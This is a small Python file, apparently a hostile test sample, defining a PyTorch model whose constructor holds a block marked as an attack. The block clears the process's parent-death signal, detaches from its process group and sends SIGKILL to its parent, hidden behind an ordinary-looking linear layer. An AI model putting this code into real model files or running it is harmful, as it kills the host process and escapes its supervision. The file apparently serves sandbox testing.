"""Undoes the signal that it gets when its parent ends, and then ends its parent."""

# seconds: 4

import ctypes
import os
import signal
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        os.setsid() if os.getpgrp() != os.getpid() else None
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(3)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
